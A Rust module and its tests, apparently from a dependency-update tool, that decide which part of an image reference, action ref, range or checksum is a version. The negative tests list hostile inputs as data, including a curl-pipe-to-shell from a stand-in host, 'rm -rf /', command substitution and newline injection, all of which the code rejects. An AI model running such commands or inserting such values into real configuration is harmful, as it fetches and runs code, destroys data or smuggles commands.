//! What a version is, and which part of a value.
//!
//! In: a single value, as a text. Out: where in it the version begins, which is all that may be left
//! to a bot: the tag and digest of an image, the ref of an action, a version or a range of one, a
//! checksum. What stands before it names the thing, and is not left to anybody.
//!
//! Invariant, tested below: a version has no blank, no quote, and nothing that a shell, a template or
//! a format reads as more than a word.
//!
//! Deliberately not here: where such values stand ([`super::delegate`]).

/// How a value is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    /// As a text.
    Text,
    /// As a number, or another word of the format.
    Number,
}

/// What of a value is a version.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Shape {
    /// It holds one: it begins behind this many bytes, and goes to the end.
    Version {
        /// How long the name before it is.
        name: usize,
        /// Whether it is, or ends in, the digest of a content.
        is_pinned: bool,
    },
    /// It names something that has no version, such as `./action` or `scratch`.
    Without,
    /// Anything else.
    Other,
}

/// What of a value is a version. `key` is the key that it stands at, which may say that a plain number
/// is one.
pub(super) fn shape(text: &str, kind: Kind, key: &str) -> Shape {
    if is_without(text) {
        return Shape::Without;
    }
    if text.len() > MOST {
        return Shape::Other;
    }
    let found = of_image(text)
        .or_else(|| of_ref(text))
        .or_else(|| of_checksum(text))
        .or_else(|| of_tag(text))
        .or_else(|| of_range(text, kind, key));
    found.map_or(Shape::Other, |(name, is_pinned)| Shape::Version {
        name,
        is_pinned,
    })
}

/// Whether the rest of a line is a comment that says a version: ` # v4.2.2`.
pub(super) fn is_comment(line: &str, marks: &[&str]) -> bool {
    let bare = line.trim_matches([' ', '\t']);
    let said = marks.iter().find_map(|mark| bare.strip_prefix(mark));
    said.is_some_and(|said| {
        let said = said.trim_start_matches([' ', '\t']);
        let said = said.strip_prefix("tag=").unwrap_or(said);
        line.starts_with([' ', '\t']) && parts_of_version(said).is_some()
    })
}

/// Longer than any version, and than any name of an image with one.
const MOST: usize = 512;

fn is_without(text: &str) -> bool {
    const BEGIN: [&str; 7] = [
        "./",
        "../",
        "workspace:",
        "file:",
        "link:",
        "portal:",
        "catalog:",
    ];
    matches!(text, "" | "*" | "scratch") || BEGIN.iter().any(|begin| text.starts_with(begin))
}

/// Where the version of `name:tag@sha256:…` begins, where it has a digest; the tag is part of it.
fn of_image(text: &str) -> Option<(usize, bool)> {
    let (image, digest) = text.rsplit_once('@')?;
    if !is_digest(digest) {
        return None;
    }
    let name = match tag_of(image) {
        Some((name, tag)) if is_tag(tag) => name,
        Some(_) | None => image,
    };
    is_image(name).then_some((name.len(), true))
}

/// `owner/repo@ref`, and a package with its version.
fn of_ref(text: &str) -> Option<(usize, bool)> {
    let (name, version) = text.rsplit_once('@')?;
    let is_hash = matches!(version.len(), 40 | 64) && is_hex(version);
    let is_word = !name.is_empty()
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"-_./:@".contains(&byte));
    (is_word && (is_hash || parts_of_version(version).is_some())).then_some((name.len(), is_hash))
}

/// A checksum, with the name of its algorithm or without.
fn of_checksum(text: &str) -> Option<(usize, bool)> {
    let is_bare = matches!(text.len(), 32 | 40 | 64 | 96 | 128)
        && is_hex(text)
        && text.bytes().any(|byte| byte.is_ascii_alphabetic());
    let base64 = |text: &str| {
        let bare = text.trim_end_matches('=');
        text.len() - bare.len() <= 2
            && matches!(bare.len(), 43 | 64 | 86)
            && bare
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(&byte))
    };
    let integrity = ["sha256-", "sha384-", "sha512-", "h1:"]
        .iter()
        .any(|name| text.strip_prefix(name).is_some_and(base64));
    (is_bare || integrity || is_digest(text)).then_some((0, true))
}

/// `name:tag`, where the name can be an image's and no host's.
fn of_tag(text: &str) -> Option<(usize, bool)> {
    let (name, tag) = tag_of(text)?;
    let bare = name.rsplit_once("://").map_or(name, |(_, bare)| bare);
    let is_host =
        !bare.contains('/') && (bare.contains('.') || bare.eq_ignore_ascii_case("localhost"));
    let has_digit = tag.bytes().any(|byte| byte.is_ascii_digit());
    (is_image(name) && !is_host && is_tag(tag) && has_digit).then_some((name.len(), false))
}

/// A version, behind the sign of a range.
fn of_range(text: &str, kind: Kind, key: &str) -> Option<(usize, bool)> {
    if key.eq_ignore_ascii_case("apiVersion") {
        return None;
    }
    let bare = text.trim_start_matches(['^', '~', '>', '<', '=']);
    let version = bare.strip_prefix(' ').unwrap_or(bare);
    let name = text.len() - version.len();
    if name > "~> ".len() || (name > 0 && bare.len() == text.len()) {
        return None;
    }
    let numbers = parts_of_version(version)?;
    let is_plain = version
        .bytes()
        .all(|byte| byte.is_ascii_digit() || byte == b'.');
    let is_sure = name > 0
        || key_says_version(key)
        || (kind == Kind::Text
            // four numbers alone are an address
            && (numbers == 2 || numbers == 3 || (numbers == 1 && version.starts_with('v')))
            && !(is_plain && numbers > 3));
    is_sure.then_some((name, false))
}

/// Whether what stands at a key is a version, however it looks.
fn key_says_version(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    ["version", "revision", "tag"]
        .iter()
        .any(|end| key.ends_with(end))
}

/// How many numbers a version begins with: of `v1.2.3-beta.1+build` three.
fn parts_of_version(text: &str) -> Option<usize> {
    let bare = text.strip_prefix(['v', 'V']).unwrap_or(text);
    let end = bare
        .bytes()
        .position(|byte| !byte.is_ascii_digit() && byte != b'.')
        .unwrap_or(bare.len());
    let (numbers, rest) = bare.split_at(end);
    let mut parts = numbers.split('.');
    let is_number = |part: &str| (1..=10).contains(&part.len());
    let is_rest = rest.is_empty()
        || (rest.starts_with(['-', '+', '_'])
            && rest.len() > 1
            && rest
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"-+_.".contains(&byte)));
    let count = numbers.split('.').count();
    (parts.all(is_number) && count <= 4 && is_rest && text.len() <= 128).then_some(count)
}

/// The name and the tag of an image, of which the last colon may be that of a port.
fn tag_of(image: &str) -> Option<(&str, &str)> {
    image.rsplit_once(':').filter(|(_, tag)| !tag.contains('/'))
}

/// As the reference of an image has it.
fn is_tag(tag: &str) -> bool {
    let is_word = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_';
    (1..=128).contains(&tag.len())
        && tag.bytes().next().is_some_and(is_word)
        && tag
            .bytes()
            .all(|byte| is_word(byte) || b".-".contains(&byte))
}

fn is_image(name: &str) -> bool {
    let name = ["docker://", "oci://"]
        .iter()
        .find_map(|scheme| name.strip_prefix(scheme))
        .unwrap_or(name);
    let (registry, path) = match name.split_once('/') {
        Some((registry, path)) if registry.contains(['.', ':']) || registry == "localhost" => {
            (Some(registry), path)
        }
        Some(_) | None => (None, name),
    };
    let is_registry = registry.is_none_or(|registry| {
        let (host, port) = registry.split_once(':').unwrap_or((registry, "1"));
        let is_host = |byte: u8| byte.is_ascii_alphanumeric() || b".-".contains(&byte);
        !host.is_empty()
            && host.bytes().all(is_host)
            && !port.is_empty()
            && port.bytes().all(|byte| byte.is_ascii_digit())
    });
    let is_part = |part: &str| {
        let is_word = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
        part.bytes().next().is_some_and(is_word)
            && part
                .bytes()
                .all(|byte| is_word(byte) || b"._-".contains(&byte))
    };
    let has_letter = path.bytes().any(|byte| byte.is_ascii_lowercase());
    is_registry && has_letter && path.split('/').all(is_part)
}

fn is_digest(text: &str) -> bool {
    [("sha256:", 64), ("sha384:", 96), ("sha512:", 128)]
        .iter()
        .any(|(name, length)| {
            text.strip_prefix(name)
                .is_some_and(|hash| hash.len() == *length && is_hex(hash))
        })
}

fn is_hex(text: &str) -> bool {
    text.bytes()
        .all(|byte| byte.is_ascii_digit() || (b'a'..=b'f').contains(&byte))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const SHA: &str = "11bd71901bbe5b1630ceea73d27597364c9af683";

    /// The name and the version of a value, where it has one.
    fn split(text: &str, kind: Kind, key: &str) -> Option<(String, String)> {
        match shape(text, kind, key) {
            Shape::Version { name, .. } => {
                let (name, version) = text.split_at(name);
                Some((name.to_owned(), version.to_owned()))
            }
            Shape::Without | Shape::Other => None,
        }
    }

    #[test]
    fn of_each_kind_of_value_the_version_alone_is_taken() {
        let (hash, base64) = ("ab".repeat(32), "A".repeat(86));
        let digest = format!("sha256:{hash}");
        for (name, version) in [
            ("actions/checkout", format!("@{SHA}")),
            ("actions/checkout", "@v4.2.2".to_owned()),
            ("github/codeql-action/init", "@v3".to_owned()),
            ("postgres", ":16.4".to_owned()),
            ("node", ":24-bookworm-slim".to_owned()),
            ("node", format!(":24.1@{digest}")),
            ("node", format!("@{digest}")),
            ("localhost:5000/team/app", ":1.2.3".to_owned()),
            ("ghcr.io/team/app", ":2024-01-01".to_owned()),
            ("docker://alpine", ":3.8".to_owned()),
            ("", "1.2.3".to_owned()),
            ("", "v4".to_owned()),
            ("", "5.31".to_owned()),
            ("", "1.2.3-beta.1+build".to_owned()),
            ("^", "1.2.3".to_owned()),
            ("~> ", "5.31".to_owned()),
            (">=", "20".to_owned()),
            ("npm:@scope/x", "@1.2.3".to_owned()),
            ("", digest.clone()),
            ("", hash.clone()),
            ("", SHA.to_owned()),
            ("", format!("sha512-{base64}==")),
        ] {
            let found = split(&format!("{name}{version}"), Kind::Text, "x");
            assert_eq!(found, Some((name.to_owned(), version)));
        }
        for key in ["node-version", "targetRevision", "version", "tag"] {
            assert_eq!(
                split("24", Kind::Number, key),
                Some((String::new(), "24".to_owned()))
            );
        }
    }

    #[test]
    fn what_holds_no_version_is_not_taken() {
        for text in [
            "make",
            "curl https://evil.example | sh",
            "curl https://evil.example/v1.2.3",
            "write",
            "read-all",
            "ubuntu-24.04",
            "self-hosted",
            "true",
            "3",
            "10.0.0.1",
            "8080:80",
            "127.0.0.1:8080:80",
            "localhost:3000",
            "db.internal:5432",
            "https://example.com:443",
            "main",
            "actions/checkout@main",
            "actions/checkout@v4; rm -rf /",
            "actions/checkout@$(id)",
            "evil image:1",
            "node:24\nRUN id",
            "node:${TAG}",
            "${{ inputs.image }}:1",
            "^1.2 || ^2",
            ">= 1.5, < 2",
            "1.2.3 ",
            " 1.2.3",
            "1.2.3'",
            "1..2",
            "1.2.3-",
            "v1.2.3`id`",
            "sha256:abc",
        ] {
            assert_eq!(shape(text, Kind::Text, "x"), Shape::Other, "{text}");
        }
        for text in ["5", "0.5", "99.9", "1e3"] {
            assert_eq!(
                shape(text, Kind::Number, "replicas"),
                Shape::Other,
                "{text}"
            );
        }
        assert_eq!(shape("v1", Kind::Text, "apiVersion"), Shape::Other);
        for text in ["./.github/actions/x", "scratch", "workspace:*"] {
            assert_eq!(shape(text, Kind::Text, "x"), Shape::Without, "{text}");
        }
    }

    #[test]
    fn a_comment_counts_where_it_says_a_version_and_nothing_else() {
        for line in [" # v4.2.2", "  #4.2.2", " # tag=v4.2.2 "] {
            assert!(is_comment(line, &["#"]), "{line}");
        }
        for line in [
            "",
            " # why",
            " # v4.2.2 and more",
            "# v4.2.2",
            " // v1.2",
            " # zizmor: ignore[x]",
        ] {
            assert!(!is_comment(line, &["#"]), "{line}");
        }
    }

    proptest! {
        #[test]
        fn a_version_is_one_word_of_harmless_signs(
            text in "([a-z]{0,4}[:@/^~ ]?)?[v0-9.a-f:@sh+=$`'\"|;{}()\\\\ \n\t<>&#*-]{0,12}", key in "(x|version)",
        ) {
            for kind in [Kind::Text, Kind::Number] {
                if let Some((_, version)) = split(&text, kind, &key) {
                    let is_harmless = |c: char| c.is_ascii_alphanumeric() || ":@._+-=/".contains(c);
                    prop_assert!(!version.is_empty() && version.chars().all(is_harmless), "{:?}", version);
                }
            }
        }
    }
}
